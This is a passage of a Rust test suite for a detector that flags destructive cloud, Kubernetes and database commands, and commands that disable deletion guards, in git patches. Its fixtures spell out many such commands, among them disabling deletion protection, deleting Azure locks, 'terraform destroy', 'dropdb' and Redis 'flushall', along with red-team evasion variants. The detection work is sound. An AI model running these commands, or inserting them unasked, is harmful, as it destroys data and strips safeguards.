/// patch of `path` that replaces the lines of `removed` with those of
/// `added`, offered the files the git reader hands it: scripts, not
/// application code.
fn program_commands(path: &str, added: &str, removed: &str) -> Vec<String> {
    use blastgate_ingest::git::{destructive_commands, is_script, program_language};
    let (minus, plus) = (removed.lines().count(), added.lines().count());
    let start = usize::from(minus > 0);
    let mut patch =
        format!("diff --git a/{path} b/{path}\n--- a/{path}\n+++ b/{path}\n@@ -{start},{minus} +1,{plus} @@\n");
    for line in removed.lines() {
        patch.push_str(&format!("-{line}\n"));
    }
    for line in added.lines() {
        patch.push_str(&format!("+{line}\n"));
    }
    destructive_commands(patch.as_bytes(), |p| is_script(p) || program_language(p).is_some())
        .remove(path)
        .unwrap_or_default()
}

/// Commands and SDK calls that turn a guard against deletion off
/// (`aws rds modify-db-instance --no-deletion-protection`, `az lock
/// delete`, boto3's `modify_db_instance(DeletionProtection=False)`) are
/// found beside what commands destroy, as kinds that start with
/// `UNGUARD`; turning a guard on, a short-lived environment's, and a
/// command only printed are not.
#[test]
fn commands_that_turn_guards_off_are_read() {
    use blastgate_ingest::git::UNGUARD;
    let read = |path: &str, added: &str, removed: &str| -> Vec<String> {
        program_commands(path, added, removed)
            .into_iter()
            .map(|k| k.strip_prefix(UNGUARD).map_or(format!("destroys {k}"), str::to_owned))
            .collect()
    };
    let cases: &[(&str, &str, &[&str])] = &[
        (
            "scripts/db.sh",
            "aws rds modify-db-instance --db-instance-identifier orders --no-deletion-protection --apply-immediately",
            &["aws rds modify-db-instance --no-deletion-protection"],
        ),
        (
            "scripts/db.sh",
            "aws dynamodb update-table --table-name ledger --no-deletion-protection-enabled",
            &["aws dynamodb update-table --no-deletion-protection-enabled"],
        ),
        (
            "scripts/stack.sh",
            "aws cloudformation update-termination-protection --stack-name core --no-enable-termination-protection",
            &["aws cloudformation update-termination-protection --no-enable-termination-protection"],
        ),
        (
            "scripts/lb.sh",
            "aws elbv2 modify-load-balancer-attributes --load-balancer-arn \"$ARN\" --attributes Key=deletion_protection.enabled,Value=false",
            &["aws elbv2 modify-load-balancer-attributes --attributes Key=deletion_protection.enabled,Value=false"],
        ),
        (
            "scripts/users.sh",
            "aws cognito-idp update-user-pool --user-pool-id eu-west-1_x --deletion-protection INACTIVE",
            &["aws cognito-idp update-user-pool --deletion-protection INACTIVE"],
        ),
        (
            "scripts/sql.sh",
            "gcloud sql instances patch orders --no-deletion-protection",
            &["gcloud sql instances patch --no-deletion-protection"],
        ),
        (
            "scripts/spanner.sh",
            "gcloud spanner databases update ledger --instance=main --no-enable-drop-protection",
            &["gcloud spanner databases update --no-enable-drop-protection"],
        ),
        ("scripts/locks.sh", "az lock delete --name keep --resource-group rg-prod", &["az lock delete"]),
        (
            "scripts/pv.sh",
            "kubectl patch pv ledger -p '{\"spec\": {\"persistentVolumeReclaimPolicy\": \"Delete\"}}'",
            &["kubectl patch persistentVolumeReclaimPolicy: Delete"],
        ),
        (
            "scripts/pv.sh",
            "kubectl annotate pvc ledger helm.sh/resource-policy-",
            &["kubectl annotate helm.sh/resource-policy-"],
        ),
        (
            "scripts/apply.sh",
            "terraform apply -auto-approve -var deletion_protection=false",
            &["terraform apply -var deletion_protection=false"],
        ),
        (
            "scripts/apply.sh",
            "terraform apply -var=\"skip_final_snapshot=true\" -auto-approve",
            &["terraform apply -var skip_final_snapshot=true"],
        ),
        (
            "scripts/locks.ps1",
            "Remove-AzResourceLock -LockName keep -ResourceGroupName rg-prod -Force",
            &["Remove-AzResourceLock"],
        ),
        (
            "scripts/db.ps1",
            "Edit-RDSDBInstance -DBInstanceIdentifier orders -DeletionProtection $false",
            &["Edit-RDSDBInstance -DeletionProtection $false"],
        ),
        (
            "scripts/db.sh",
            "aws rds modify-db-instance --db-instance-identifier orders --backup-retention-period 0 --apply-immediately",
            &["aws rds modify-db-instance --backup-retention-period 0"],
        ),
        (
            "scripts/bucket.sh",
            "aws s3api put-bucket-versioning --bucket ledger --versioning-configuration Status=Suspended",
            &["aws s3api put-bucket-versioning --versioning-configuration Status=Suspended"],
        ),
        (
            "scripts/sql.sh",
            "gcloud sql instances patch orders --no-backup",
            &["gcloud sql instances patch --no-backup"],
        ),
        // Terraform's variables, however they are given; Pulumi's and
        // the CDK's settings.
        (
            "scripts/apply.sh",
            "terraform apply -auto-approve -var 'db_deletion_protection=false'",
            &["terraform apply -var db_deletion_protection=false"],
        ),
        (
            "scripts/apply.sh",
            "terragrunt run-all apply --terragrunt-non-interactive -var deletion_protection=false",
            &["terragrunt apply -var deletion_protection=false"],
        ),
        (
            "scripts/apply.sh",
            "TF_VAR_deletion_protection=false terraform apply -auto-approve",
            &["terraform apply -var deletion_protection=false"],
        ),
        // (A second red team: a preview's apply, its folder short-lived.)
        ("scripts/apply.sh", "cd envs/dev && TF_VAR_deletion_protection=false terraform apply -auto-approve", &[]),
        ("scripts/apply.sh", "export TF_VAR_deletion_protection=false", &["TF_VAR_deletion_protection=false"]),
        (
            "scripts/up.sh",
            "pulumi config set orders:deletionProtection false",
            &["pulumi config set deletionprotection=false"],
        ),
        (
            "scripts/up.sh",
            "npx cdk deploy OrdersStack -c deletionProtection=false",
            &["cdk deploy -c deletionprotection=false"],
        ),
        // Other spellings of the same settings.
        (
            "scripts/ec2.sh",
            "aws ec2 modify-instance-attribute --instance-id i-0abc --attribute disableApiTermination --value false",
            &["aws ec2 modify-instance-attribute --no-disable-api-termination"],
        ),
        (
            "scripts/db.sh",
            "aws rds modify-db-cluster --cli-input-json '{\"DBClusterIdentifier\": \"orders\", \"DeletionProtection\": false}'",
            &["aws rds modify-db-cluster --cli-input-json DeletionProtection=false"],
        ),
        (
            "scripts/lb.sh",
            "aws elbv2 modify-load-balancer-attributes --load-balancer-arn $ARN --attributes '[{\"Key\":\"deletion_protection.enabled\",\"Value\":\"false\"}]'",
            &["aws elbv2 modify-load-balancer-attributes --attributes Key=deletion_protection.enabled,Value=false"],
        ),
        (
            "scripts/pv.sh",
            "kubectl patch pv pvc-1f2e --type=json -p='[{\"op\":\"replace\",\"path\":\"/spec/persistentVolumeReclaimPolicy\",\"value\":\"Delete\"}]'",
            &["kubectl patch persistentVolumeReclaimPolicy: Delete"],
        ),
        (
            "scripts/pv.sh",
            "kubectl patch pvc data -p '{\"metadata\":{\"finalizers\":null}}'",
            &["kubectl patch finalizers: null"],
        ),
        (
            "scripts/pv.sh",
            "kubectl patch pvc data -p '{\"metadata\":{\"annotations\":{\"helm.sh/resource-policy\":null}}}'",
            &["kubectl patch helm.sh/resource-policy: null"],
        ),
        // (A lien is a guard: no project destroyed.)
        (
            "scripts/lien.sh",
            "gcloud resource-manager liens delete p1234-abcd",
            &["gcloud resource-manager liens delete"],
        ),
        // Through wrappers, and a name that says production.
        (
            "scripts/db.sh",
            "aws-vault exec prod -- aws rds modify-db-instance --db-instance-identifier orders --no-deletion-protection",
            &["aws rds modify-db-instance --no-deletion-protection"],
        ),
        (
            "scripts/db.sh",
            "docker run --rm amazon/aws-cli rds modify-db-instance --db-instance-identifier orders --no-deletion-protection",
            &["aws rds modify-db-instance --no-deletion-protection"],
        ),
        (
            "scripts/db.sh",
            "aws rds modify-db-instance --db-instance-identifier dev-portal-prod --no-deletion-protection",
            &["aws rds modify-db-instance --no-deletion-protection"],
        ),
        // Guards of data: a backup vault's lock, soft delete, versioning;
        // a lock removed through Azure's REST API.
        (
            "scripts/backup.sh",
            "aws backup delete-backup-vault-lock-configuration --backup-vault-name orders",
            &["aws backup delete-backup-vault-lock-configuration"],
        ),
        (
            "scripts/bucket.sh",
            "gcloud storage buckets update gs://ledger --clear-soft-delete",
            &["gcloud storage buckets update --clear-soft-delete"],
        ),
        (
            "scripts/blob.sh",
            "az storage account blob-service-properties update --account-name ledger --enable-delete-retention false",
            &["az storage --enable-delete-retention false"],
        ),
        (
            "scripts/locks.sh",
            "az rest --method delete --url \"https://management.azure.com/subscriptions/$SUB/resourceGroups/rg-orders/providers/Microsoft.Authorization/locks/no-delete?api-version=2016-09-01\"",
            &["az lock delete"],
        ),
        (
            "scripts/blob.sh",
            "az storage account blob-service-properties update --account-name ledger --enable-delete-retention true",
            &[],
        ),
        (
            "scripts/db.sh",
            "aws --profile ci rds modify-db-instance --db-instance-identifier orders-prod --no-deletion-protection",
            &["aws rds modify-db-instance --no-deletion-protection"],
        ),
        (
            "scripts/db.sh",
            "aws --profile ci rds delete-db-instance --db-instance-identifier orders-prod",
            &["destroys aws rds delete-db-instance"],
        ),
        // Turned on, a short-lived environment's, printed, or moved.
        ("scripts/plan.sh", "terraform -chdir=infra plan -var deletion_protection=false -detailed-exitcode", &[]),
        ("scripts/up.sh", "pulumi config set orders:deletionProtection true", &[]),
        ("scripts/apply.sh", "export TF_VAR_deletion_protection=true", &[]),
        (
            "scripts/db.sh",
            "aws rds modify-db-instance --db-instance-identifier orders --backup-retention-period 7",
            &[],
        ),
        (
            "scripts/bucket.sh",
            "aws s3api put-bucket-versioning --bucket ledger --versioning-configuration Status=Enabled",
            &[],
        ),
        ("scripts/db.sh", "aws rds modify-db-instance --db-instance-identifier orders --deletion-protection", &[]),
        (
            "scripts/db.sh",
            "aws rds modify-db-instance --db-instance-identifier orders-pr-12 --no-deletion-protection",
            &[],
        ),
        ("scripts/db.sh", "aws rds describe-db-instances --no-deletion-protection", &[]),
        ("scripts/db.sh", "echo \"aws rds modify-db-instance --no-deletion-protection\"", &[]),
        ("scripts/locks.sh", "az lock list --resource-group rg-prod", &[]),
        (
            "scripts/pv.sh",
            "kubectl patch pv ledger -p '{\"spec\": {\"persistentVolumeReclaimPolicy\": \"Retain\"}}'",
            &[],
        ),
        ("scripts/apply.sh", "terraform apply -var deletion_protection=true", &[]),
        ("scripts/db.ps1", "Edit-RDSDBInstance -DBInstanceIdentifier orders -DeletionProtection $true", &[]),
        // Programs, through their SDKs.
        (
            "scripts/unprotect.py",
            "import boto3\nrds = boto3.client(\"rds\")\nrds.modify_db_instance(\n    DBInstanceIdentifier=\"orders\",\n    DeletionProtection=False,\n)",
            &["aws rds modify-db-instance --no-deletion-protection"],
        ),
        (
            "scripts/unprotect.py",
            "import boto3\nboto3.client(\"ec2\").modify_instance_attribute(InstanceId=\"i-1\", DisableApiTermination={\"Value\": False})",
            &["aws ec2 modify-instance-attribute --no-disable-api-termination"],
        ),
        (
            "scripts/unprotect.ts",
            "import { RDSClient, ModifyDBClusterCommand } from \"@aws-sdk/client-rds\";\nconst rds = new RDSClient({});\nawait rds.send(new ModifyDBClusterCommand({ DBClusterIdentifier: \"orders\", DeletionProtection: false }));",
            &["aws rds modify-db-cluster --no-deletion-protection"],
        ),
        (
            "tools/unprotect.go",
            "import \"github.com/aws/aws-sdk-go-v2/service/rds\"\nclient.ModifyDBInstance(ctx, &rds.ModifyDBInstanceInput{DBInstanceIdentifier: aws.String(\"orders\"), DeletionProtection: aws.Bool(false)})",
            &["aws rds modify-db-instance --no-deletion-protection"],
        ),
        (
            "scripts/Unprotect.java",
            "import software.amazon.awssdk.services.rds.RdsClient;\nrds.modifyDBInstance(ModifyDbInstanceRequest.builder().dbInstanceIdentifier(\"orders\").deletionProtection(false).build());",
            &["aws rds modify-db-instance --no-deletion-protection"],
        ),
        (
            "scripts/gcp.py",
            "from googleapiclient import discovery\nsqladmin = discovery.build(\"sqladmin\", \"v1\")\nsqladmin.instances().patch(project=\"p\", instance=\"orders\", body={\"settings\": {\"deletionProtectionEnabled\": False}}).execute()",
            &["gcloud instances update --no-deletion-protection"],
        ),
        (
            // (Before, read as `az at resource group level delete`: a
            // resource group destroyed.)
            "scripts/locks.py",
            "from azure.mgmt.resource import ManagementLockClient\nlocks.management_locks.delete_at_resource_group_level(\"rg-prod\", \"keep\")",
            &["az lock delete"],
        ),
        (
            "scripts/backups.py",
            "import boto3\nrds = boto3.client(\"rds\")\nrds.modify_db_instance(DBInstanceIdentifier=\"orders\", BackupRetentionPeriod=0)",
            &["aws rds modify-db-instance --backup-retention-period 0"],
        ),
        (
            "scripts/unprotect.py",
            "import boto3\nrds = boto3.client(\"rds\")\nrds.modify_db_instance(DBInstanceIdentifier=\"orders\", DeletionProtection=True, ApplyImmediately=False)",
            &[],
        ),
        (
            "scripts/unprotect.py",
            "import boto3\nrds = boto3.client(\"rds\")\nrds.modify_db_instance(DBInstanceIdentifier=\"orders\", DeletionProtection=keep)",
            &[],
        ),
        (
            "scripts/lb.py",
            "import boto3\nelb = boto3.client(\"elbv2\")\nelb.modify_load_balancer_attributes(\n    LoadBalancerArn=arn,\n    Attributes=[{\"Key\": \"deletion_protection.enabled\", \"Value\": \"false\"}],\n)",
            &["aws elbv2 modify-load-balancer-attributes --attributes Key=deletion_protection.enabled,Value=false"],
        ),
        (
            "scripts/ec2.py",
            "import boto3\nec2 = boto3.client(\"ec2\")\nec2.modify_instance_attribute(InstanceId=\"i-1\", Attribute=\"disableApiTermination\", Value=\"false\")",
            &["aws ec2 modify-instance-attribute --no-disable-api-termination"],
        ),
        (
            "scripts/ddb.py",
            "import boto3\ntable = boto3.resource(\"dynamodb\").Table(\"payments\")\ntable.update(DeletionProtectionEnabled=False)",
            &["aws dynamodb update-table --no-deletion-protection-enabled"],
        ),
        (
            "tools/locks/main.go",
            "import \"github.com/Azure/azure-sdk-for-go/sdk/resourcemanager/resources/armlocks\"\nclient.DeleteAtResourceGroupLevel(ctx, \"orders-prod-rg\", \"no-delete\", nil)",
            &["az lock delete"],
        ),
        // Settings given by a name given them earlier.
        (
            "scripts/unprotect.py",
            "import boto3\nrds = boto3.client(\"rds\")\nparams = {\"DBInstanceIdentifier\": \"orders\", \"DeletionProtection\": False}\nrds.modify_db_instance(**params)",
            &["aws rds modify-db-instance --no-deletion-protection"],
        ),
        (
            "scripts/unprotect.mjs",
            "import { RDSClient, ModifyDBInstanceCommand } from '@aws-sdk/client-rds';\nconst rds = new RDSClient({});\nconst input = { DBInstanceIdentifier: 'orders', DeletionProtection: false };\nawait rds.send(new ModifyDBInstanceCommand(input));",
            &["aws rds modify-db-instance --no-deletion-protection"],
        ),
        (
            "tools/unprotect/main.go",
            "import \"github.com/aws/aws-sdk-go-v2/service/rds\"\nfunc main() {\n\tin := &rds.ModifyDBClusterInput{\n\t\tDBClusterIdentifier: aws.String(\"orders\"),\n\t\tDeletionProtection:  aws.Bool(false),\n\t}\n\t_, _ = client.ModifyDBCluster(ctx, in)\n}",
            &["aws rds modify-db-cluster --no-deletion-protection"],
        ),
        (
            "scripts/Unprotect.java",
            "import software.amazon.awssdk.services.rds.RdsClient;\nclass Unprotect { void run(RdsClient rds) {\n  ModifyDbClusterRequest req = ModifyDbClusterRequest.builder()\n      .dbClusterIdentifier(\"orders\")\n      .deletionProtection(false)\n      .build();\n  rds.modifyDBCluster(req);\n} }",
            &["aws rds modify-db-cluster --no-deletion-protection"],
        ),
        (
            "scripts/Unprotect.java",
            "import software.amazon.awssdk.services.rds.RdsClient;\nModifyDbClusterRequest req = ModifyDbClusterRequest.builder()\n    .dbClusterIdentifier(\"orders\")\n    .deletionProtection(false)\n    .build();\nrds.modifyDBCluster(req);",
            &["aws rds modify-db-cluster --no-deletion-protection"],
        ),
        (
            "scripts/sql.py",
            "from googleapiclient import discovery\nbody = {'settings': {'deletionProtectionEnabled': False}}\nsqladmin.instances().patch(project='acme', instance='orders', body=body).execute()",
            &["gcloud instances update --no-deletion-protection"],
        ),
        (
            "scripts/unprotect.py",
            "import boto3\nrds = boto3.client(\"rds\")\nprotect = False\nrds.modify_db_instance(DBInstanceIdentifier=\"orders\", DeletionProtection=protect)",
            &["aws rds modify-db-instance --no-deletion-protection"],
        ),
        (
            "scripts/reclaim.py",
            "from kubernetes import client, config\nv1 = client.CoreV1Api()\nv1.patch_persistent_volume('pvc-1f2e', {'spec': {'persistentVolumeReclaimPolicy': 'Delete'}})",
            &["kubectl patch persistentVolumeReclaimPolicy: Delete"],
        ),
        (
            "scripts/reclaim.py",
            "from kubernetes import client\nv1.patch_namespaced_persistent_volume_claim('data', 'orders', {'metadata': {'finalizers': None}})",
            &["kubectl patch finalizers: null"],
        ),
        (
            "tools/vm/main.go",
            "import \"google.golang.org/api/compute/v1\"\nfunc main() {\n\t_, _ = svc.Instances.SetDeletionProtection(\"acme\", \"europe-west1-b\", \"api-vm-1\").DeletionProtection(false).Do()\n}",
            &["gcloud instances update --no-deletion-protection"],
        ),
        (
            "scripts/spanner.py",
            "from google.cloud import spanner\ndb = spanner.Client().instance('main').database('ledger')\ndb.enable_drop_protection = False\ndb.update(['enable_drop_protection'])",
            &["gcloud db update --no-enable-drop-protection"],
        ),
        (
            "scripts/reclaim.py",
            "from kubernetes import client\nv1.patch_persistent_volume('pvc-1f2e', {'spec': {'persistentVolumeReclaimPolicy': 'Retain'}})",
            &[],
        ),
        (
            "scripts/protect.py",
            "import boto3\nrds = boto3.client(\"rds\")\nparams = {\"DBInstanceIdentifier\": \"orders\", \"DeletionProtection\": True}\nrds.modify_db_instance(**params)",
            &[],
        ),
        // (A short-lived environment's, by the call's names, but not by
        // the name of what it keeps; a row written; a program's own
        // settings.)
        (
            "scripts/cleanup.py",
            "import boto3\nrds = boto3.client(\"rds\")\nrds.delete_db_instance(DBInstanceIdentifier=db_id, FinalDBSnapshotIdentifier=\"orders-final-ci\")",
            &["destroys aws rds delete-db-instance"],
        ),
        (
            "scripts/preview.py",
            "import boto3\nrds = boto3.client(\"rds\")\nrds.modify_db_instance(DBInstanceIdentifier=\"orders-pr-12\", DeletionProtection=False)",
            &[],
        ),
        (
            "scripts/preview.py",
            "import boto3\nrds = boto3.client(\"rds\")\nrds.modify_db_instance(DBInstanceIdentifier=f\"orders-pr-{pr}\", DeletionProtection=False)",
            &[],
        ),
        (
            "scripts/preview.py",
            "import boto3\nrds = boto3.client(\"rds\")\nrds.delete_db_instance(DBInstanceIdentifier=\"orders-pr-12\", SkipFinalSnapshot=True)",
            &[],
        ),
        (
            "scripts/audit.py",
            "import boto3\nimport argparse\np = argparse.ArgumentParser()\np.set_defaults(deletion_protection=False)",
            &[],
        ),
        (
            "scripts/report.py",
            "import boto3\nrds = boto3.client(\"rds\")\nreport = {}\nreport.update(DeletionProtection=False)",
            &[],
        ),
        (
            "scripts/inventory.py",
            "import boto3\ntable = boto3.resource(\"dynamodb\").Table(\"inventory\")\ntable.put_item(Item={\"id\": \"orders\", \"DeletionProtection\": False})",
            &[],
        ),
    ];
    for (path, added, want) in cases {
        assert_eq!(read(path, added, ""), *want, "{path}: {added}");
    }
    // A job's setting of a Terraform variable, in a CI definition.
    let workflow = ".github/workflows/apply.yml";
    let patch = format!(
        "diff --git a/{workflow} b/{workflow}\n--- a/{workflow}\n+++ b/{workflow}\n@@ -4 +4 @@\n+      TF_VAR_db_deletion_protection: \"false\"\n"
    );
    let found = blastgate_ingest::git::destructive_commands(patch.as_bytes(), |_| true);
    assert_eq!(
        found.get(workflow).map(Vec::as_slice),
        Some(&[format!("{UNGUARD}TF_VAR_db_deletion_protection=false")][..])
    );
    // A command reworded turns nothing off anew.
    let line = "aws rds modify-db-instance --db-instance-identifier orders --no-deletion-protection";
    assert!(read("scripts/db.sh", &format!("{line} --apply-immediately"), line).is_empty());
}

/// A YAML folded block (`run: >`, GitLab's `- >`) is one command to the
/// shell: its lines at the block's own indent are joined, so a command
/// written over them is read whole, in the lines a change adds and in the
/// whole file alike; a more indented line stays a command of its own.
#[test]
fn folded_yaml_blocks_are_one_command() {
    use blastgate_ingest::git::{UNGUARD, destructive_commands, pipeline_destroys};
    let gitlab = "unprotect:\n  script:\n    - >\n      aws rds modify-db-instance\n      --db-instance-identifier orders-prod\n      --no-deletion-protection\n    - >-\n      kubectl delete\n      pvc data\n";
    let patch = |path: &str, text: &str| {
        let mut p = format!(
            "diff --git a/{path} b/{path}\n--- a/{path}\n+++ b/{path}\n@@ -0,0 +1,{} @@\n",
            text.lines().count()
        );
        for l in text.lines() {
            p.push_str(&format!("+{l}\n"));
        }
        p
    };
    let want =
        ["PersistentVolumeClaim".to_owned(), format!("{UNGUARD}aws rds modify-db-instance --no-deletion-protection")];
    let found = destructive_commands(patch(".gitlab-ci.yml", gitlab).as_bytes(), |_| true);
    assert_eq!(found.get(".gitlab-ci.yml").map(Vec::as_slice), Some(&want[..]));
    let whole: Vec<String> = pipeline_destroys(gitlab.as_bytes()).unwrap().into_iter().collect();
    assert_eq!(whole, want);
    // (A more indented line is a line of its own; prose is prose.)
    let kept = "job:\n  script:\n    - >\n      if [ -n \"$X\" ]; then\n        echo kubectl\n      fi\n  description: >\n    Runs kubectl delete\n    pvc data in the end.\n";
    assert!(destructive_commands(patch(".gitlab-ci.yml", kept).as_bytes(), |_| true).is_empty());
    let workflow = "jobs:\n  m:\n    steps:\n      - run: >\n          terraform\n          destroy -auto-approve\n";
    let found = destructive_commands(patch(".github/workflows/m.yml", workflow).as_bytes(), |_| true);
    assert_eq!(found.get(".github/workflows/m.yml").map(Vec::as_slice), Some(&["terraform destroy".to_owned()][..]));
}

/// A heredoc printed to the terminal (usage text, `cat <<EOF`) is text,
/// not commands; one that a shell, a database client or a file takes is
/// read, and one the change only opens (its lines not shown) ends where
/// the changed lines do.
#[test]
fn printed_heredocs_are_text() {
    let read = |added: &str| program_commands("scripts/maint.sh", added, "");
    let usage = "usage() {\n  cat <<'USAGE'\nUsage: maint.sh\n  aws rds modify-db-instance --db-instance-identifier NAME --no-deletion-protection\n  terraform destroy\nUSAGE\n}\n";
    assert!(read(usage).is_empty(), "{:?}", read(usage));
    assert!(read("cat <<-EOF\n\tterraform destroy\n\tEOF\n").is_empty());
    // Run, or written to a file that may be run: read.
    assert_eq!(read("bash <<EOF\nterraform destroy -auto-approve\nEOF\n"), ["terraform destroy"]);
    assert_eq!(read("cat <<EOF | sh\nterraform destroy\nEOF\n"), ["terraform destroy"]);
    assert_eq!(read("cat > /tmp/nuke.sh <<EOF\nterraform destroy\nEOF\n"), ["terraform destroy"]);
    assert_eq!(read("cat <<EOF > /tmp/nuke.sh\nterraform destroy\nEOF\n"), ["terraform destroy"]);
    // (A second red team: captured, grouped and piped, or substituted in
    // an unquoted heredoc, it runs.)
    assert_eq!(
        read("SCRIPT=$(cat <<EOF\nterraform destroy -auto-approve\nEOF\n)\neval \"$SCRIPT\"\n"),
        ["terraform destroy"]
    );
    assert_eq!(read("{ cat <<EOF\nkubectl delete namespace orders\nEOF\n} | bash\n"), ["Namespace"]);
    assert_eq!(read("cat <<EOF\nresult: $(kubectl delete namespace orders)\nEOF\n"), ["Namespace"]);
    assert!(read("cat <<'EOF'\nresult: $(kubectl delete namespace orders)\nEOF\n").is_empty());
    // (After the heredoc, commands again.)
    assert_eq!(read("cat <<EOF\nhelp\nEOF\nterraform destroy\n"), ["terraform destroy"]);
    // An opening whose lines the patch does not show ends at the break.
    let path = "scripts/maint.sh";
    let patch = format!(
        "diff --git a/{path} b/{path}\n--- a/{path}\n+++ b/{path}\n@@ -1,3 +1,4 @@\n+cat <<EOF\n keep\n keep\n@@ -10,1 +11,2 @@\n keep\n+terraform destroy\n"
    );
    let found = blastgate_ingest::git::destructive_commands(patch.as_bytes(), |_| true);
    assert_eq!(found.get(path).map(Vec::as_slice), Some(&["terraform destroy".to_owned()][..]));
}

/// Cloud SDK calls in scripts are read as the commands of their tools:
/// `boto3.client("rds").delete_db_instance(...)` is `aws rds
/// delete-db-instance`, whatever the SDK's language.
#[test]
fn cloud_sdk_calls_count_as_their_tools_commands() {
    let read = |path: &str, added: &str| program_commands(path, added, "");
    let none: &[&str] = &[];
    let cases: &[(&str, &str, &[&str])] = &[
        (
            "scripts/cleanup.py",
            "import boto3\n\nrds = boto3.client(\"rds\")\nrds.delete_db_instance(\n    DBInstanceIdentifier=\"orders\",\n    SkipFinalSnapshot=True,\n)",
            &["aws rds delete-db-instance"],
        ),
        (
            "scripts/reset_env.py",
            "import boto3\nsession = boto3.Session(profile_name='prod')\ncfn = session.client('cloudformation')\ncfn.delete_stack(StackName='orders-prod')",
            &["aws cloudformation delete-stack"],
        ),
        (
            "scripts/teardown.ts",
            "import { EKSClient, DeleteClusterCommand } from \"@aws-sdk/client-eks\";\nconst eks = new EKSClient({});\nawait eks.send(new DeleteClusterCommand({ name: \"prod\" }));",
            &["aws eks delete-cluster"],
        ),
        (
            "tools/wipe/main.go",
            "import \"github.com/aws/aws-sdk-go-v2/service/dynamodb\"\nclient := dynamodb.NewFromConfig(cfg)\n_, err = client.DeleteTable(ctx, &dynamodb.DeleteTableInput{TableName: aws.String(\"orders\")})",
            &["aws dynamodb delete-table"],
        ),
        (
            "scripts/Cleanup.java",
            "import software.amazon.awssdk.services.rds.RdsClient;\nrds.deleteDBCluster(DeleteDbClusterRequest.builder().dbClusterIdentifier(\"orders\").build());",
            &["aws rds delete-db-cluster"],
        ),
        (
            "scripts/gc_sql.py",
            "from googleapiclient import discovery\nsqladmin = discovery.build('sqladmin', 'v1beta4')\nsqladmin.instances().delete(project=PROJECT, instance='orders').execute()",
            &["gcloud instances delete"],
        ),
        (
            "scripts/gke.py",
            "from google.cloud import container_v1\ncontainer_v1.ClusterManagerClient().delete_cluster(name=NAME)",
            &["gcloud cluster delete"],
        ),
        (
            "scripts/azure_cleanup.py",
            "from azure.mgmt.compute import ComputeManagementClient\ncompute.virtual_machines.begin_delete(GROUP, 'orders-vm').wait()",
            &["az virtual machines delete"],
        ),
        (
            "scripts/k8s_reset.py",
            "from kubernetes import client, config\nv1 = client.CoreV1Api()\nv1.delete_namespace(name=\"orders\")",
            &["Namespace"],
        ),
        (
            "scripts/k8s_reset.ts",
            "import * as k8s from '@kubernetes/client-node';\nawait k8sApi.deleteNamespacedPersistentVolumeClaim({ name: 'data', namespace: 'orders' });",
            &["PersistentVolumeClaim"],
        ),
        (
            "scripts/down.py",
            "import pulumi.automation as auto\nstack = auto.select_stack(stack_name='prod', work_dir='infra')\nstack.destroy(on_output=print)",
            &["pulumi destroy"],
        ),
        (
            "tools/tf/main.go",
            "import \"github.com/hashicorp/terraform-exec/tfexec\"\nerr = tf.Destroy(context.Background())",
            &["terraform destroy"],
        ),
        // Routine deletes, checks, and calls in files that use no SDK or
        // are application code, count nothing.
        (
            "scripts/cleanup.py",
            "import boto3\ns3 = boto3.client('s3')\ns3.delete_objects(Bucket=b, Delete={'Objects': keys})\nrds.delete_db_snapshot(DBSnapshotIdentifier=s)\nlogs.delete_log_group(logGroupName=g)\ns3.delete_bucket_policy(Bucket=b)",
            none,
        ),
        ("scripts/cleanup.py", "import boto3\nec2.terminate_instances(InstanceIds=ids, DryRun=True)", none),
        ("scripts/cleanup.py", "cache.delete_table('orders')\nstore.delete_cluster()", none),
        ("src/orders/janitor.py", "import boto3\nrds.delete_db_instance(DBInstanceIdentifier='orders')", none),
        ("scripts/cleanup.py", "import boto3\n# rds.delete_db_instance(DBInstanceIdentifier='orders')", none),
        ("scripts/policies.sh", "aws s3api delete-bucket-policy --bucket orders-archive", none),
    ];
    for (path, added, expected) in cases {
        assert_eq!(read(path, added), *expected, "{path}: {added}");
    }
}

/// Scripts of other languages run commands through their own calls: an
/// agent that moves `terraform destroy` out of a shell script into a
/// Python, Go or JavaScript one is read the same.
#[test]
fn programs_of_other_languages_are_read_for_the_commands_they_run() {
    let read = program_commands;
    let none: &[&str] = &[];
    let cases: &[(&str, &str, &[&str])] = &[
        (
            "scripts/cleanup.py",
            "subprocess.run([\"terraform\", \"destroy\", \"-auto-approve\"], check=True)",
            &["terraform destroy"],
        ),
        ("scripts/cleanup.py", "import os\nos.system('kubectl delete pvc ledger')", &["PersistentVolumeClaim"]),
        (
            "scripts/cleanup.py",
            "subprocess.run(\n    [\n        \"helm\",\n        \"uninstall\",\n        \"orders-postgresql\",\n    ],\n    check=True,\n)",
            &["helm uninstall orders-postgresql"],
        ),
        ("scripts/cleanup.py", "CMD = [\"dropdb\", \"orders\"]\nsubprocess.check_call(CMD)", &["database"]),
        ("scripts/cleanup.py", "proc = await asyncio.create_subprocess_shell(\"dropdb orders\")", &["database"]),
        ("scripts/cleanup.py", "await asyncio.create_subprocess_exec(\"dropdb\", \"orders\")", &["database"]),
        ("tasks.py", "@task\ndef nuke(c):\n    c.run(\"pulumi destroy --yes --stack acme/prod\")", &["pulumi destroy"]),
        (
            "ops/nuke.go",
            "cmd := exec.CommandContext(ctx, \"kubectl\", \"delete\", \"namespace\", \"orders\")",
            &["Namespace"],
        ),
        ("scripts/teardown.mjs", "await $`terraform destroy -auto-approve`", &["terraform destroy"]),
        ("scripts/teardown.ts", "execSync(\"cdk destroy --all --force\", { stdio: \"inherit\" });", &["cdk destroy"]),
        (
            "lib/tasks/db.rake",
            "sh \"aws rds delete-db-instance --db-instance-identifier orders\"",
            &["aws rds delete-db-instance"],
        ),
        ("build.gradle", "exec { commandLine 'terraform', 'destroy', '-auto-approve' }", &["terraform destroy"]),
        ("bin/teardown", "#!/bin/sh\nhelm uninstall orders-postgresql", &["helm uninstall orders-postgresql"]),
        ("scripts/wipe.bat", "@echo off\nrem Tear it down.\nterraform destroy -auto-approve", &["terraform destroy"]),
        // Data services' client libraries (a red team's leftover: a Redis
        // flushed from Python read nothing).
        (
            "scripts/reset_cache.py",
            "import redis\nredis.Redis(host=os.environ['REDIS_HOST']).flushall()",
            &["redis flushall"],
        ),
        (
            "scripts/reset_cache.ts",
            "import { createClient } from 'redis';\nawait client.flushAll();",
            &["redis flushall"],
        ),
        ("scripts/reset_cache.go", "import \"github.com/redis/go-redis/v9\"\nrdb.FlushDB(ctx)", &["redis flushdb"]),
        (
            "scripts/wipe.py",
            "from pymongo import MongoClient\nMongoClient(URI).drop_database(\"orders\")",
            &["mongodb dropDatabase"],
        ),
        (
            "scripts/wipe.js",
            "const { MongoClient } = require('mongodb');\nawait db.collection('orders').deleteMany({});",
